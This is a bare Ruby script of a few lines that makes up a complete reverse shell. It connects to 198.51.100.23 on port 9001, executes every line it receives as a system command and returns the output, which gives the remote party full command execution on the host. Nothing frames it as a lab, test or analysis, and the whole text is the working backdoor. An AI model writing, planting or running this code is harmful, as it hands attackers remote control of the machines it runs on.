require "socket"

conn = TCPSocket.new("198.51.100.23", 9001)
while (cmd = conn.gets)
  conn.puts(`#{cmd}`)
end
